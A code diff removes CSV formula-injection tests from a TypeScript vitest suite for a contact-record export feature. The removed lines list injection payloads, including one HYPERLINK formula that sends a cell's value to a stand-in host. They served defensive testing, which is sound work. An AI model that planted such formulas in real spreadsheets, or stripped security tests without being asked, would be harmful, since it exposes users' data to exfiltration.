@@ -1,4 +1,3 @@
-import Papa from "papaparse";
 import { expect, test } from "vitest";
 import { makeContactRecord, type ContactRecord } from "#functions/contact/contact-record.ts";
 import { notForwarded } from "#functions/contact/forward-state.ts";
@@ -75,46 +74,6 @@ test("[CONT-13] a period holds its first moment and not its end", async () => {
   const records = [0, 1, 2].map((minutes) => makeRecord(`${minutes}`.repeat(16), minutes));
   const period = { fromEpochMs: noon + 60_000, untilEpochMs: noon + 120_000 };
   expect((await list(records, "csv", period)).lines.slice(1)).toEqual([expect.stringContaining("12:01:00")]);
-});
-
-const formulas = [
-  "=1+1",
-  "+1",
-  "-1",
-  "@SUM(A1)",
-  "＝1+1",
-  `=HYPERLINK("https://x.example?"&A1,"Click")`,
-  "Hello;=1+1",
-  "Hello\t+1",
-  "Hello\n-1",
-  "Hello\r@SUM(A1)",
-  'Hello;"=1+1"',
-  'Hello, "Priya"; =1+1;;-1',
-];
-
-test.each(formulas)(
-  "[CONT-13] a spreadsheet does not calculate %j, in whatever column, and whether it splits at commas, semicolons or tabs",
-  async (formula) => {
-    const changes = {
-      name: formula,
-      eventType: formula,
-      attendees: formula,
-      message: `${formula}\r\n"=2+2", and more`,
-    };
-    const { lines } = await list([makeRecord("a".repeat(16), 0, changes)], "csv");
-    const cells = [",", ";", "\t"].flatMap((delimiter) =>
-      Papa.parse<string[]>(lines.join("\n"), { delimiter }).data.flat(),
-    );
-    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝]/.test(cell))).toEqual([]);
-  },
-);
-
-test("[CONT-13] a file that is read as CSV holds a column for each name, and every word", async () => {
-  const message = 'Hello, "all"; see\tthis\r\nand =this';
-  const { lines } = await list([makeRecord("a".repeat(16), 0, { message })], "csv");
-  const [names = [], values = []] = Papa.parse<string[]>(lines.join("\n")).data;
-  expect(values).toHaveLength(names.length);
-  expect(values[names.indexOf("message")]).toBe(message);
 });
 
 test("[CONT-13] the JSON is one document, also of nothing, and holds every word as it was written", async () => {
